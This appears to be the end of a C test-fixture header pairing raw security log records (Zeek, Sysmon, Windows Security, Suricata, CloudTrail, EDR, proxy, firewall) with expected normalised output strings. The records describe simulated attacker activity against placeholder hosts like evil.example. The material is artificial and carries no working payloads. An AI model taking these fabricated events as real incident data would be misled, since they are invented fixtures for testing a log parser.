	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tversion\tserver_name\testablished\tsubject\tissuer\tja3\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tstring\tbool\tstring\tstring\tstring\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t50000\t203.0.113.9\t443\tTLSv12\tevil.example\tT\tCN=evil.example,O=X\tCN=ca.example\t00000000000000000000000000000001",
	  "tls data 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00.5Z | host:server_name=evil.example certificate:subject=CN=evil.example,O=X certificate:issuer=CN=ca.example certificate:ja3=00000000000000000000000000000001" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tx509\n"
	  "#fields\tts\tid\tcertificate.serial\tcertificate.subject\tcertificate.issuer\tsan.dns\n"
	  "#types\ttime\tstring\tstring\tstring\tstring\tvector[string]\n"
	  "1591264800.5\tFaaaaaaaAAAA\t0A\tCN=evil.example\tCN=ca.example\tevil.example,www.evil.example",
	  "tls unknown - > - at=2020-06-04T10:00:00.5Z | certificate:certificate.serial=0A certificate:certificate.subject=CN=evil.example certificate:certificate.issuer=CN=ca.example certificate:san.dns=evil.example certificate:san.dns=www.evil.example" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tfiles\n"
	  "#fields\tts\tfuid\ttx_hosts\trx_hosts\tconn_uids\tsource\tfilename\tis_orig\tlocal_orig\tmd5\tsha1\n"
	  "#types\ttime\tstring\tset[addr]\tset[addr]\tset[string]\tstring\tstring\tbool\tbool\tstring\tstring\n"
	  "1591264800.5\tFaaaaaaaAAAA\t203.0.113.9\t10.0.0.5\tCxxxxxxxxxxxx\tHTTP\ta.exe\tF\tF\t00000000000000000000000000000001\t-",
	  "transfer data 10.0.0.5 > 203.0.113.9 at=2020-06-04T10:00:00.5Z | none:source=HTTP file:filename=a.exe none:local_orig=F hash:md5=00000000000000000000000000000001" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tsmtp\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\thelo\tmailfrom\trcptto\tfrom\tto\tsubject\tpath\tlast_reply\tuser_agent\tx_originating_ip\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tstring\tset[string]\tstring\tset[string]\tstring\tvector[addr]\tstring\tstring\taddr\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t203.0.113.9\t50000\t10.1.1.26\t25\tmx.evil.example\teve@evil.example\tbob@example.org\tEve <eve@evil.example>\tbob@example.org\tInvoice\t10.1.1.26,203.0.113.9\t250 2.0.0 Ok\t-\t198.51.100.7",
	  "mail delivered 203.0.113.9:50000 > 10.1.1.26:25 at=2020-06-04T10:00:00.5Z mailbox=bob@example.org | none:helo=mx.evil.example sender:mailfrom=eve@evil.example recipient:rcptto=bob@example.org sender:from=Eve <eve@evil.example> recipient:to=bob@example.org subject:subject=Invoice forwarded:path=10.1.1.26 forwarded:path=203.0.113.9 forwarded:x_originating_ip=198.51.100.7" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tssh\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tversion\tauth_success\tauth_attempts\tdirection\tclient\tserver\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tcount\tbool\tcount\tenum\tstring\tstring\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t203.0.113.9\t50000\t10.1.1.8\t22\t2\tT\t1\tINBOUND\tSSH-2.0-x\tSSH-2.0-y",
	  "login login-ok 203.0.113.9:50000 > 10.1.1.8:22 at=2020-06-04T10:00:00.5Z | none:direction=INBOUND none:client=SSH-2.0-x none:server=SSH-2.0-y" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\trdp\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tcookie\tresult\tsecurity_protocol\tclient_name\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tstring\tstring\tstring\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t203.0.113.9\t50000\t10.1.1.8\t3389\tbob\tencrypted\tHYBRID\tevilpc",
	  "login unknown 203.0.113.9:50000 > 10.1.1.8:3389 at=2020-06-04T10:00:00.5Z user=bob | user:cookie=bob none:result=encrypted none:client_name=evilpc" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tkerberos\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\trequest_type\tclient\tservice\tsuccess\terror_msg\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tstring\tstring\tbool\tstring\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t50000\t10.0.0.4\t88\tAS\tbob/CORP\tkrbtgt/CORP\tF\tKDC_ERR_PREAUTH_FAILED",
	  "login login-failed 10.0.0.5:50000 > 10.0.0.4:88 at=2020-06-04T10:00:00.5Z user=bob/CORP | user:client=bob/CORP none:service=krbtgt/CORP" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tnotice\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tnote\tmsg\tsub\tsrc\tdst\tp\tactions\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tstring\taddr\taddr\tport\tset[enum]\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t50000\t203.0.113.9\t443\tSSL::Invalid_Server_Cert\tself signed\tCN=evil.example\t10.0.0.5\t203.0.113.9\t443\tNotice::ACTION_LOG",
	  "alert unknown 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00.5Z | none:note=SSL::Invalid_Server_Cert text:msg=self signed text:sub=CN=evil.example" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tintel\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tseen.indicator\tseen.indicator_type\tseen.where\tmatched\tsources\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tenum\tenum\tset[enum]\tset[string]\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t50000\t203.0.113.9\t443\t203.0.113.9\tIntel::ADDR\tConn::IN_RESP\tIntel::ADDR\tlist1",
	  "alert unknown 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00.5Z | text:seen.indicator=203.0.113.9" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tdhcp\n"
	  "#fields\tts\tuids\tclient_addr\tserver_addr\tclient_port\tserver_port\tmac\thost_name\tclient_fqdn\tdomain\trequested_addr\tassigned_addr\tlease_time\tmsg_types\n"
	  "#types\ttime\tset[string]\taddr\taddr\tport\tport\tstring\tstring\tstring\tstring\taddr\taddr\tinterval\tvector[string]\n"
	  "1591264800.5\tCxxxxxxxxxxxx\t10.0.0.5\t10.0.0.1\t68\t67\t52:54:00:aa:07:07\tws07\t-\tcorp.example\t10.0.0.5\t10.0.0.5\t28800.0\tREQUEST,ACK",
	  "lease unknown 10.0.0.5:68 > 10.0.0.1:67 at=2020-06-04T10:00:00.5Z computer=ws07 mac=52:54:00:aa:07:07 from=2020-06-04T10:00:00.5Z to=2020-06-04T18:00:00.5Z src-local=1" },
	{ "zeek",
	  "#separator \\x09\n"
	  "#set_separator\t,\n"
	  "#empty_field\t(empty)\n"
	  "#unset_field\t-\n"
	  "#path\tweird\n"
	  "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tname\taddl\tnotice\tpeer\n"
	  "#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tstring\tbool\tstring\n"
	  "1591264800.5\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t50000\t203.0.113.9\t443\tbad_TCP_checksum\t-\tF\tzeek",
	  "flow unknown 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00.5Z | none:name=bad_TCP_checksum none:peer=zeek" },
	{ "zeek",
	  "1591264800.123456\tCHhAvVGS1DHFjwGM9\t10.0.0.5\t50000\t203.0.113.9\t443\ttcp\tssl\t1.5\t100\t200\tSF\tT\tF\t0\tShADadFf\t8\t500\t7\t700\t-",
	  "flow data 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00.123456Z bytes=100/200 src-local=1 | none:service=ssl" },
	{ "json_events",
	  "{\"_path\":\"conn\",\"ts\":1591264800.5,\"uid\":\"Cx\",\"id.orig_h\":\"10.0.0.5\",\"id.orig_p\":50000,\"id.resp_h\":\"203.0.113.9\",\"id.resp_p\":443,\"conn_state\":\"SF\",\"orig_bytes\":10,\"resp_bytes\":20,\"local_orig\":true,\"local_resp\":false}",
	  "flow data 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00.5Z bytes=10/20 src-local=1" },
	{ "json_events",
	  "{\"ts\":1591264800.5,\"uid\":\"Cx\",\"id.orig_h\":\"10.0.0.5\",\"id.orig_p\":50000,\"id.resp_h\":\"203.0.113.9\",\"id.resp_p\":80,\"method\":\"GET\",\"host\":\"evil.example\",\"uri\":\"/a\",\"user_agent\":\"curl\",\"status_code\":200}",
	  "http data 10.0.0.5:50000 > 203.0.113.9:80 at=2020-06-04T10:00:00.5Z | host:host=evil.example path:uri=/a agent:user_agent=curl" },
	{ "json_events",
	  "{\"@timestamp\":\"2020-06-04T10:00:00.000Z\",\"event\":{\"category\":[\"network\"],\"action\":\"allowed\",\"dataset\":\"fw.log\"},\"source\":{\"ip\":\"10.0.0.5\",\"port\":50000,\"bytes\":100},\"destination\":{\"ip\":\"203.0.113.9\",\"port\":443,\"bytes\":200,\"domain\":\"evil.example\"},\"network\":{\"direction\":\"outbound\"},\"observer\":{\"name\":\"fw1\"},\"user\":{\"name\":\"bob\"}}",
	  "flow data 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z sensor=fw1 user=bob bytes=100/200 src-local=1 | host:domain=evil.example user:name=bob" },
	{ "json_events",
	  "{\"@timestamp\":\"2020-06-04T10:00:00.000Z\",\"ecs\":{\"version\":\"1\"},\"event\":{\"kind\":\"event\",\"category\":[\"process\"],\"type\":[\"start\"],\"code\":\"1\"},\"host\":{\"name\":\"ws07\",\"ip\":[\"fe80::1\",\"10.0.0.5\"]},\"process\":{\"executable\":\"C:\\\\a\\\\evil.exe\",\"command_line\":\"evil.exe -x \\\"y\\\"\",\"hash\":{\"sha256\":\"0000000000000000000000000000000000000000000000000000000000000000\"},\"parent\":{\"executable\":\"C:\\\\cmd.exe\"}},\"user\":{\"name\":\"bob\",\"domain\":\"CORP\"}}",
	  "process started 10.0.0.5 > - at=2020-06-04T10:00:00Z computer=ws07 user=bob src-local=1 | none:version=1 file:executable=C:\\\\a\\\\evil.exe command:command_line=evil.exe -x \\\"y\\\" hash:sha256=0000000000000000000000000000000000000000000000000000000000000000 file:executable=C:\\\\cmd.exe user:name=bob" },
	{ "json_events",
	  "{\"@timestamp\":\"2020-06-04T10:00:00.000Z\",\"event\":{\"category\":\"authentication\",\"outcome\":\"failure\"},\"source\":{\"ip\":\"203.0.113.9\"},\"user\":{\"name\":\"admin\"},\"host\":{\"name\":\"srv1\"}}",
	  "login login-failed 203.0.113.9 > - at=2020-06-04T10:00:00Z computer=srv1 user=admin | user:name=admin" },
	{ "json_events",
	  "{\"@timestamp\":\"2020-06-04T10:00:00.000Z\",\"winlog\":{\"provider_name\":\"Microsoft-Windows-Sysmon\",\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"computer_name\":\"ws07.corp.example\",\"record_id\":77,\"event_id\":3,\"event_data\":{\"Image\":\"C:\\\\evil.exe\",\"User\":\"CORP\\\\bob\",\"Initiated\":\"true\",\"SourceIp\":\"10.0.0.5\",\"SourcePort\":\"50000\",\"DestinationIp\":\"203.0.113.9\",\"DestinationHostname\":\"evil.example\",\"DestinationPort\":\"443\"}}}",
	  "flow unknown 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z computer=ws07.corp.example user=CORP\\bob src-local=1 | file:Image=C:\\\\evil.exe user:User=CORP\\\\bob none:DestinationHostname=evil.example" },
	{ "json_events",
	  "{\"@timestamp\":\"2020-06-04T10:00:00.000Z\",\"winlog\":{\"provider_name\":\"Microsoft-Windows-Sysmon\",\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"computer_name\":\"ws07\",\"event_id\":22,\"event_data\":{\"QueryName\":\"evil.example\",\"QueryStatus\":\"9003\",\"QueryResults\":\"-\",\"Image\":\"C:\\\\evil.exe\"}}}",
	  "dns no-answer - > - at=2020-06-04T10:00:00Z computer=ws07 src-local=1 | query:QueryName=evil.example file:Image=C:\\\\evil.exe" },
	{ "json_events",
	  "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-Security-Auditing\"}},\"EventID\":{\"#text\":4624,\"#attributes\":{\"Qualifiers\":0}},\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2020-06-04T10:00:00.1234567Z\"}},\"EventRecordID\":900,\"Channel\":\"Security\",\"Computer\":\"srv1\"},\"EventData\":{\"Data\":[{\"Name\":\"TargetUserName\",\"#text\":\"bob\"},{\"Name\":\"LogonType\",\"#text\":\"10\"},{\"#text\":\"203.0.113.9\",\"Name\":\"IpAddress\"},{\"Name\":\"IpPort\",\"#text\":\"50000\"},{\"Name\":\"SubjectUserName\",\"#text\":\"SRV1$\"}]}}}",
	  "login login-ok 203.0.113.9:50000 > - at=2020-06-04T10:00:00.123456Z computer=srv1 user=bob | user:TargetUserName=bob user:SubjectUserName=SRV1$" },
	{ "json_events",
	  "{\"TimeCreated\":\"2020-06-04T10:00:00Z\",\"EventID\":4625,\"Channel\":\"Security\",\"Hostname\":\"srv1\",\"TargetUserName\":\"admin\",\"IpAddress\":\"203.0.113.9\"}",
	  "login login-failed 203.0.113.9 > - at=2020-06-04T10:00:00Z computer=srv1 user=admin | user:TargetUserName=admin" },
	{ "json_events",
	  "{\"TimeCreated\":\"2020-06-04T10:00:00Z\",\"EventID\":1102,\"Channel\":\"Security\",\"SourceName\":\"Microsoft-Windows-Eventlog\",\"Computer\":\"srv1\",\"EventRecordID\":1,\"SubjectUserName\":\"bob\"}",
	  "other unknown - > - at=2020-06-04T10:00:00Z computer=srv1 user=bob | user:SubjectUserName=bob" },
	{ "json_events",
	  "{\"TimeCreated\":\"2020-06-04T10:00:00Z\",\"EventID\":5156,\"Channel\":\"Security\",\"Computer\":\"ws07\",\"Direction\":\"%%14593\",\"SourceAddress\":\"10.0.0.5\",\"SourcePort\":\"50000\",\"DestAddress\":\"203.0.113.9\",\"DestPort\":\"443\",\"Application\":\"\\\\device\\\\a.exe\"}",
	  "flow let-through 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z computer=ws07 src-local=1" },
	{ "json_events",
	  "{\"timestamp\":\"2020-06-04T10:00:00.000000+0200\",\"flow_id\":1,\"event_type\":\"alert\",\"src_ip\":\"10.0.0.5\",\"src_port\":50000,\"dest_ip\":\"203.0.113.9\",\"dest_port\":80,\"proto\":\"TCP\",\"alert\":{\"action\":\"allowed\",\"signature\":\"ET TEST\",\"category\":\"x\"},\"http\":{\"hostname\":\"evil.example\",\"url\":\"/a\",\"http_user_agent\":\"curl\",\"http_method\":\"GET\",\"status\":200},\"flow\":{\"bytes_toserver\":100,\"bytes_toclient\":200}}",
	  "alert data 10.0.0.5:50000 ? 203.0.113.9:80 at=2020-06-04T08:00:00Z bytes=100/200 | none:signature=ET TEST none:category=x host:hostname=evil.example path:url=/a agent:http_user_agent=curl" },
	{ "json_events",
	  "{\"timestamp\":\"2020-06-04T10:00:00.000000+0000\",\"event_type\":\"dns\",\"src_ip\":\"10.0.0.53\",\"src_port\":53,\"dest_ip\":\"10.0.0.5\",\"dest_port\":50000,\"dns\":{\"type\":\"answer\",\"rrname\":\"evil.example\",\"rrtype\":\"A\",\"rcode\":\"NOERROR\",\"answers\":[{\"rrname\":\"evil.example\",\"rrtype\":\"A\",\"rdata\":\"203.0.113.9\"}]}}",
	  "dns answered 10.0.0.5:50000 > 10.0.0.53:53 at=2020-06-04T10:00:00Z | query:rrname=evil.example answer:rrname=evil.example answer:rdata=203.0.113.9" },
	{ "json_events",
	  "{\"timestamp\":\"2020-06-04T10:00:00.000000+0000\",\"event_type\":\"tls\",\"src_ip\":\"10.0.0.5\",\"src_port\":50000,\"dest_ip\":\"203.0.113.9\",\"dest_port\":443,\"tls\":{\"subject\":\"CN=evil.example\",\"issuerdn\":\"CN=ca.example\",\"fingerprint\":\"00:11\",\"sni\":\"evil.example\",\"ja3\":{\"hash\":\"00000000000000000000000000000000\"}}}",
	  "tls unknown 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z | certificate:subject=CN=evil.example certificate:issuerdn=CN=ca.example certificate:fingerprint=00:11 host:sni=evil.example certificate:hash=00000000000000000000000000000000" },
	{ "json_events",
	  "{\"timestamp\":\"2020-06-04T10:00:00.000000+0000\",\"event_type\":\"flow\",\"src_ip\":\"10.0.0.5\",\"src_port\":50000,\"dest_ip\":\"203.0.113.9\",\"dest_port\":443,\"flow\":{\"bytes_toserver\":100,\"bytes_toclient\":0,\"start\":\"2020-06-04T09:00:00.000000+0000\",\"state\":\"new\",\"alerted\":false}}",
	  "flow unknown 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z bytes=100/0" },
	{ "json_events",
	  "{\"timestamp\":\"2020-06-04T10:00:00.000000+0000\",\"event_type\":\"fileinfo\",\"src_ip\":\"203.0.113.9\",\"src_port\":80,\"dest_ip\":\"10.0.0.5\",\"dest_port\":50000,\"fileinfo\":{\"filename\":\"/a.exe\",\"sha256\":\"0000000000000000000000000000000000000000000000000000000000000000\",\"size\":10},\"http\":{\"hostname\":\"evil.example\",\"url\":\"/a.exe\"}}",
	  "transfer unknown 203.0.113.9:80 ? 10.0.0.5:50000 at=2020-06-04T10:00:00Z | file:filename=/a.exe hash:sha256=0000000000000000000000000000000000000000000000000000000000000000 host:hostname=evil.example path:url=/a.exe" },
	{ "json_events",
	  "{\"eventVersion\":\"1.08\",\"userIdentity\":{\"type\":\"IAMUser\",\"userName\":\"bob\",\"accountId\":\"1\"},\"eventTime\":\"2020-06-04T10:00:00Z\",\"eventSource\":\"signin.amazonaws.com\",\"eventName\":\"ConsoleLogin\",\"sourceIPAddress\":\"203.0.113.9\",\"userAgent\":\"Mozilla/5.0\",\"responseElements\":{\"ConsoleLogin\":\"Success\"}}",
	  "login login-ok 203.0.113.9 > - at=2020-06-04T10:00:00Z user=bob | user:userName=bob none:accountId=1 agent:userAgent=Mozilla/5.0" },
	{ "json_events",
	  "{\"eventVersion\":\"1.08\",\"userIdentity\":{\"type\":\"IAMUser\",\"userName\":\"bob\"},\"eventTime\":\"2020-06-04T10:00:00Z\",\"eventSource\":\"signin.amazonaws.com\",\"eventName\":\"ConsoleLogin\",\"sourceIPAddress\":\"203.0.113.9\",\"errorMessage\":\"Failed authentication\",\"responseElements\":{\"ConsoleLogin\":\"Failure\"}}",
	  "login login-failed 203.0.113.9 > - at=2020-06-04T10:00:00Z user=bob | user:userName=bob" },
	{ "json_events",
	  "{\"eventVersion\":\"1.08\",\"userIdentity\":{\"userName\":\"bob\"},\"eventTime\":\"2020-06-04T10:00:00Z\",\"eventSource\":\"s3.amazonaws.com\",\"eventName\":\"GetObject\",\"sourceIPAddress\":\"203.0.113.9\"}",
	  "login login-ok 203.0.113.9 > - at=2020-06-04T10:00:00Z user=bob | user:userName=bob" },
	{ "json_events",
	  "{\"CreationTime\":\"2020-06-04T10:00:00\",\"Operation\":\"UserLoggedIn\",\"Workload\":\"AzureActiveDirectory\",\"UserId\":\"bob@example.org\",\"ClientIP\":\"203.0.113.9\",\"ResultStatus\":\"Success\",\"RecordType\":15}",
	  "login login-ok 203.0.113.9 > - at=2020-06-04T10:00:00Z user=bob@example.org | user:UserId=bob@example.org" },
	{ "json_events",
	  "{\"time\":\"2020-06-04T10:00:00Z\",\"category\":\"SignInLogs\",\"resultType\":\"50126\",\"properties\":{\"userPrincipalName\":\"bob@example.org\",\"ipAddress\":\"203.0.113.9\",\"appDisplayName\":\"x\",\"status\":{\"errorCode\":50126}}}",
	  "login login-failed 203.0.113.9 > - at=2020-06-04T10:00:00Z user=bob@example.org | user:userPrincipalName=bob@example.org" },
	{ "json_events",
	  "{\"timestamp\":\"2020-06-04T10:00:00Z\",\"event\":\"ProcessStart\",\"action\":\"detected\",\"Computer\":\"ws07\",\"ip\":\"10.0.0.5\",\"user\":\"chem\",\"process\":{\"path\":\"/home/a\",\"sha256\":\"0000000000000000000000000000000000000000000000000000000000000000\"}}",
	  "process started 10.0.0.5 > - at=2020-06-04T10:00:00Z computer=ws07 user=chem src-local=1 | user:user=chem file:path=/home/a hash:sha256=0000000000000000000000000000000000000000000000000000000000000000" },
	{ "json_events",
	  "{\"timestamp\":\"2020-06-04T10:00:00Z\",\"event\":\"FileWrite\",\"action\":\"blocked\",\"Computer\":\"ws07\",\"ip\":\"10.0.0.5\",\"process\":{\"path\":\"/home/a\",\"sha256\":\"0000000000000000000000000000000000000000000000000000000000000000\"}}",
	  "file blocked-by-agent 10.0.0.5 > - at=2020-06-04T10:00:00Z computer=ws07 src-local=1 | file:path=/home/a hash:sha256=0000000000000000000000000000000000000000000000000000000000000000" },
	{ "json_events",
	  "{\"Timestamp\":\"2020-06-04T10:00:00Z\",\"DeviceName\":\"ws07\",\"ActionType\":\"ConnectionSuccess\",\"RemoteIP\":\"203.0.113.9\",\"RemotePort\":443,\"RemoteUrl\":\"evil.example\",\"LocalIP\":\"10.0.0.5\",\"LocalPort\":50000,\"InitiatingProcessFileName\":\"evil.exe\",\"InitiatingProcessSHA256\":\"0000000000000000000000000000000000000000000000000000000000000000\"}",
	  "http let-through 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z computer=ws07 src-local=1 | url:RemoteUrl=evil.example file:InitiatingProcessFileName=evil.exe hash:InitiatingProcessSHA256=0000000000000000000000000000000000000000000000000000000000000000" },
	{ "json_events",
	  "{\"Timestamp\":\"2020-06-04T10:00:00Z\",\"DeviceName\":\"ws07\",\"ActionType\":\"InboundConnectionAccepted\",\"RemoteIP\":\"203.0.113.9\",\"RemotePort\":50000,\"LocalIP\":\"10.0.0.5\",\"LocalPort\":3389}",
	  "flow let-through 203.0.113.9:50000 > 10.0.0.5:3389 at=2020-06-04T10:00:00Z computer=ws07" },
	{ "json_events",
	  "{\"event_simpleName\":\"NetworkConnectIP4\",\"timestamp\":\"1591264800000\",\"ComputerName\":\"ws07\",\"LocalAddressIP4\":\"10.0.0.5\",\"LocalPort\":\"50000\",\"RemoteAddressIP4\":\"203.0.113.9\",\"RemotePort\":\"443\",\"aid\":\"x\"}",
	  "flow unknown 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z computer=ws07 src-local=1" },
	{ "json_events",
	  "{\"name\":\"sockets\",\"hostIdentifier\":\"ws07\",\"unixTime\":1591264800,\"calendarTime\":\"Thu Jun  4 10:00:00 2020 UTC\",\"columns\":{\"local_address\":\"10.0.0.5\",\"local_port\":\"50000\",\"remote_address\":\"203.0.113.9\",\"remote_port\":\"443\",\"path\":\"/usr/bin/x\"},\"action\":\"added\"}",
	  "flow unknown 10.0.0.5:50000 ? 203.0.113.9:443 at=2020-06-04T10:00:00Z computer=ws07 src-local=1 | file:path=/usr/bin/x" },
	{ "json_events",
	  "{\"_time\":\"2020-06-04T10:00:00Z\",\"host\":\"proxy1\",\"sourcetype\":\"squid\",\"_raw\":\"1591264800.123    214 10.0.0.5 TCP_TUNNEL/200 6640 CONNECT evil.example:443 bob HIER_DIRECT/203.0.113.9 -\"}",
	  "proxy data 10.0.0.5 > 203.0.113.9:443 at=2020-06-04T10:00:00.123Z sensor=proxy1 user=bob bytes=0/6640 | host:url=evil.example user:user=bob" },
	{ "json_events",
	  "{\"@timestamp\":\"2020-06-04T10:00:01Z\",\"message\":\"<189>date=2020-06-04 time=10:00:00 devname=\\\"fw1\\\" devid=\\\"FG\\\" type=\\\"traffic\\\" tz=\\\"+0000\\\" srcip=10.0.0.5 srcport=50000 dstip=203.0.113.9 dstport=443 action=\\\"accept\\\"\",\"agent\":{\"name\":\"collector\"}}",
	  "flow let-through 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z sensor=fw1" },
	{ "json_events",
	  "{\"time\":\"2020-06-04T10:00:00Z\",\"level\":\"info\",\"host\":\"app1\",\"message\":\"contacting 203.0.113.9 for the weekly report now\"}",
	  "other unknown - > - at=2020-06-04T10:00:00Z computer=app1" },
	{ "json_events",
	  "{\"log\":\"203.0.113.9 - - [04/Jun/2020:10:00:00 +0000] \\\"GET /a HTTP/1.1\\\" 200 5 \\\"-\\\" \\\"curl/7\\\"\\n\",\"stream\":\"stdout\",\"time\":\"2020-06-04T10:00:00.1Z\"}",
	  "server data 203.0.113.9 > - at=2020-06-04T10:00:00Z bytes=0/5 | path:request=/a agent:agent=curl/7" },
	{ "json_events",
	  "{\"time_local\":\"04/Jun/2020:10:00:00 +0000\",\"remote_addr\":\"203.0.113.9\",\"remote_user\":\"\",\"request\":\"GET /a HTTP/1.1\",\"status\":\"200\",\"body_bytes_sent\":\"512\",\"http_referrer\":\"\",\"http_user_agent\":\"curl/7\",\"http_x_forwarded_for\":\"198.51.100.7\"}",
	  "server data 203.0.113.9 > - at=2020-06-04T10:00:00Z bytes=0/512 | path:request=/a agent:http_user_agent=curl/7 forwarded:http_x_forwarded_for=198.51.100.7" },
	{ "json_events",
	  "{\"time\":\"2020-06-04T10:00:00Z\",\"remote_ip\":\"203.0.113.9\",\"method\":\"GET\",\"uri\":\"/a\",\"status\":200,\"user_agent\":\"curl/7\"}",
	  "server data 203.0.113.9 > - at=2020-06-04T10:00:00Z | path:uri=/a agent:user_agent=curl/7" },
	{ "json_events",
	  "{\"time\":\"2020-06-04T10:00:00Z\",\"event\":\"login\",\"result\":\"failed\",\"user\":\"bob\",\"remote_ip\":\"203.0.113.9\"}",
	  "login login-failed 203.0.113.9 > - at=2020-06-04T10:00:00Z user=bob | user:user=bob" },
	{ "json_events",
	  "{\"sourcetype\":\"zscalernss-web\",\"event\":{\"datetime\":\"2020-06-04 10:00:00\",\"vendor\":\"Zscaler\",\"product\":\"NSS\",\"action\":\"Blocked\",\"login\":\"bob@example.org\",\"url\":\"evil.example/a\",\"host\":\"evil.example\",\"cip\":\"10.0.0.5\",\"sip\":\"203.0.113.9\",\"status\":\"403\",\"ua\":\"curl\"}}",
	  "proxy refused 10.0.0.5 > 203.0.113.9 at=2020-06-04T10:00:00Z user=bob@example.org | user:login=bob@example.org url:url=evil.example/a agent:ua=curl host:host=evil.example" },
	{ "json_events",
	  "{\"ts\":\"2020-06-04T10:00:00Z\",\"sip\":\"10.0.0.5\",\"sport\":50000,\"dip\":\"203.0.113.9\",\"dport\":443,\"action\":\"permit\"}",
	  "flow let-through 10.0.0.5:50000 > 203.0.113.9:443 at=2020-06-04T10:00:00Z" },
	{ "winxml",
	  "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System><Provider Name=\"Microsoft-Windows-Sysmon\"/><EventID>1</EventID><TimeCreated SystemTime=\"2020-06-04T10:00:00.000Z\"/><EventRecordID>5</EventRecordID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws07</Computer></System><EventData><Data Name=\"Image\">C:\\evil.exe</Data><Data Name=\"CommandLine\">evil.exe &amp; x</Data><Data Name=\"Hashes\">SHA1=00,MD5=11</Data><Data Name=\"User\">CORP\\bob</Data></EventData></Event>",
	  "process started - > - at=2020-06-04T10:00:00Z computer=ws07 user=CORP\\bob | file:Image=C:\\evil.exe command:CommandLine=evil.exe &amp; x hash:Hashes=SHA1=00,MD5=11 user:User=CORP\\bob" },
	{ "winxml",
	  "<Event><System><Provider Name=\"Microsoft-Windows-Eventlog\"/><EventID>104</EventID><TimeCreated SystemTime=\"2020-06-04T10:00:00Z\"/><EventRecordID>1</EventRecordID><Channel>System</Channel><Computer>ws07</Computer></System><UserData><LogFileCleared><SubjectUserName>bob</SubjectUserName><Channel>System</Channel></LogFileCleared></UserData></Event>",
	  "other unknown - > - at=2020-06-04T10:00:00Z computer=ws07 user=bob | user:SubjectUserName=bob" },
};

#define RECORD_SAMPLES (sizeof(record_samples) / sizeof(record_samples[0]))

#endif
